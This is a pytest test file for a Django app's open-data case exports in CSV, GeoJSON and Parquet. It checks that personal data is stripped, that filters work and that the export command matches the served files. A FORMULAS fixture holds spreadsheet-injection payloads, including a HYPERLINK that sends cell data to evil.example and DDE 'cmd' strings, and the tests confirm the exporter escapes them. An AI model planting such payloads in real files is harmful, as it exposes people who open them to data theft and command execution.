"""Open data: CSV, GeoJSON and Parquet, streamed, without personal data; `pracha export`."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.http import StreamingHttpResponse
from django.test import Client

from pracha.cases.models import Case, Event
from pracha.insights.opendata.export import NAMES

pytestmark = pytest.mark.django_db
SECRET_PHONE = "0812345678"


@pytest.fixture
def cases(file_case: Callable[..., dict[str, Any]], make_case: Callable[..., Case]) -> list[str]:
    first = file_case(
        description=f"ท่อแตก โทรหาผมได้ที่ {SECRET_PHONE} ครับ",
        categories=["drains"],
        reporter={"name": "Somchai Secret", "phone": "0899999999", "email": "me@secret.example"},
    )["ticket_id"]
    case = Case.objects.get(ticket_id=first)
    Event.objects.create(case=case, kind="commented", note="staff only: talk to the owner",
                         is_public=False)  # fmt: skip
    second = make_case(categories=["road", "flooding"], created="2024-03-05 08:00", state="done",
                       closed="2024-03-06 08:00", district="จตุจักร")  # fmt: skip
    return [first, second.ticket_id]


def body(api: Client, url: str) -> bytes:
    response = api.get(url)
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def test_csv_has_the_documented_columns_and_no_personal_data(api: Client, cases: list[str]) -> None:
    raw = body(api, "/api/v1/open-data/cases.csv")
    text = raw.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == NAMES
    assert {r["ticket_id"] for r in rows} == set(cases)
    for secret in (SECRET_PHONE, "0899999999", "Somchai", "me@secret.example", "staff only"):
        assert secret not in text
    closed = next(r for r in rows if r["ticket_id"] == cases[1])
    assert closed["categories"] == "flooding|road" and closed["hours_to_close"] == "24.0"
    assert closed["status"] == "closed" and closed["closed_at"].startswith("2024-03-06T08:00")


def test_geojson_and_parquet_carry_the_same_cases(api: Client, cases: list[str]) -> None:
    geo = json.loads(body(api, "/api/v1/open-data/cases.geojson"))
    assert geo["type"] == "FeatureCollection"
    assert sorted(f["id"] for f in geo["features"]) == sorted(cases)
    assert geo["features"][0]["geometry"]["type"] == "Point"
    table = pq.read_table(io.BytesIO(body(api, "/api/v1/open-data/cases.parquet")))
    assert table.column_names == list(NAMES)
    assert sorted(table.column("ticket_id").to_pylist()) == sorted(cases)
    assert SECRET_PHONE not in str(table.column("description").to_pylist())


def test_filters_and_bad_input(api: Client, cases: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(body(
        api, "/api/v1/open-data/cases.csv?from=2024-03-01&to=2024-03-31&category=road"
    ).decode())))  # fmt: skip
    assert [r["ticket_id"] for r in rows] == [cases[1]]
    response = api.get("/api/v1/open-data/cases.csv?from=2024-31-01")
    assert response.status_code == 400 and response.json()["field"] == "from"
    assert api.get("/api/v1/open-data/cases.xlsx").status_code == 404


def export(tmp_path: Path, fmt: str, *args: str) -> Path:
    target = tmp_path / f"cases.{fmt}"
    call_command("export", "--format", fmt, "--output", str(target), *args, stderr=io.StringIO())
    return target


def test_export_command_writes_the_same_file(api: Client, cases: list[str], tmp_path: Path) -> None:
    target = export(tmp_path, "csv")
    assert target.read_bytes() == body(api, "/api/v1/open-data/cases.csv")
    with pytest.raises(CommandError):
        call_command("export", "--from", "yesterday", "-o", str(target))
    with pytest.raises(CommandError):
        call_command("export", "-o", "/no/such/dir/cases.csv")


@pytest.mark.parametrize("query", ["", "?from=2024-03-01&to=2024-03-31&district=จตุจักร"])
def test_export_command_writes_the_same_geojson(
    api: Client, cases: list[str], tmp_path: Path, query: str
) -> None:
    args = ["--from", "2024-03-01", "--to", "2024-03-31", "--district", "จตุจักร"] if query else []
    exported = json.loads(export(tmp_path, "geojson", *args).read_bytes())
    served = json.loads(body(api, f"/api/v1/open-data/cases.geojson{query}"))
    assert exported == served
    assert len(served["features"]) == (1 if query else 2)


@pytest.mark.parametrize("query", ["", "?category=road"])
def test_export_command_writes_the_same_parquet(
    api: Client, cases: list[str], tmp_path: Path, query: str
) -> None:
    exported = pq.read_table(
        export(tmp_path, "parquet", *(["--category", "road"] if query else []))
    )
    served = pq.read_table(io.BytesIO(body(api, f"/api/v1/open-data/cases.parquet{query}")))
    assert exported.schema.equals(served.schema)
    assert exported.equals(served)
    assert exported.num_rows == (1 if query else 2)
    assert sorted(served.column("ticket_id").to_pylist()) == sorted(cases[1:] if query else cases)


def test_export_command_refuses_an_unknown_district(
    api: Client, cases: list[str], areas: None, tmp_path: Path
) -> None:
    with pytest.raises(CommandError, match="unknown district"):
        export(tmp_path, "csv", "--district", "ไม่มีเขตนี้")
    assert not (tmp_path / "cases.csv").exists()
    chatuchak = json.loads(export(tmp_path, "geojson", "--district", "Chatu Chak").read_bytes())
    assert [f["properties"]["district"] for f in chatuchak["features"]] == ["จตุจักร"]


FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"click")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)*cmd": "'@SUM",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",  # a bare CR would split the row in readers: it becomes a newline
}


def csv_rows(raw: bytes) -> dict[str, dict[str, str]]:
    return {r["ticket_id"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}


@pytest.fixture
def formulas(make_case: Callable[..., Case]) -> dict[str, str]:
    """Cases whose description (and one address) would run as a spreadsheet formula."""
    made = {make_case(description=text).ticket_id: text for text in FORMULAS}
    negative = make_case(description="-12.5", address="=1+1")
    # Negative coordinates (not in Thailand, so set directly): numbers that must stay numbers.
    Case.objects.filter(pk=negative.pk).update(lat=-33.5, lon=-70.25)
    made[negative.ticket_id] = "-12.5"
    return made


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(
    api: Client, formulas: dict[str, str]
) -> None:
    rows = csv_rows(body(api, "/api/v1/open-data/cases.csv"))
    for ticket_id, text in formulas.items():
        if text in FORMULAS:
            assert rows[ticket_id]["description"] == "'" + text.replace("\r", "\n")
            assert rows[ticket_id]["description"].startswith(FORMULAS[text])
    # Numbers stay numbers: negative coordinates, and a description that is just a number.
    plain = next(r for r in rows.values() if r["description"] == "-12.5")
    assert (plain["lat"], plain["lon"]) == ("-33.5", "-70.25")
    assert plain["address"] == "'=1+1"
    # Machine formats keep the text as written.
    served = json.loads(body(api, "/api/v1/open-data/cases.geojson"))
    texts = {f["properties"]["description"] for f in served["features"]}
    assert set(FORMULAS) <= texts


def test_bom_only_when_asked_and_export_matches(
    api: Client, formulas: dict[str, str], tmp_path: Path
) -> None:
    plain = body(api, "/api/v1/open-data/cases.csv")
    excel = body(api, "/api/v1/open-data/cases.csv?bom=1")
    assert not plain.startswith(b"\xef\xbb\xbf")  # machine readers get the header as-is
    assert excel == b"\xef\xbb\xbf" + plain
    assert body(api, "/api/v1/open-data/cases.csv?bom=0") == plain
    assert export(tmp_path, "csv").read_bytes() == plain
    assert export(tmp_path, "csv", "--bom").read_bytes() == excel
    with pytest.raises(CommandError, match="--bom"):
        export(tmp_path, "geojson", "--bom")


@pytest.mark.parametrize(
    "url", ["/api/v1/open-data/cases.csv?bom=yes", "/api/v1/open-data/cases.geojson?bom=1"]
)
def test_a_bad_bom_parameter_is_refused(api: Client, db: None, url: str) -> None:
    response = api.get(url)
    assert response.status_code == 400
    assert response.json()["field"] == "bom"


def test_the_dashboard_links_people_to_the_excel_friendly_csv(api: Client, db: None) -> None:
    assert 'href="/api/v1/open-data/cases.csv?bom=1&amp;' in api.get("/dashboard/").content.decode()
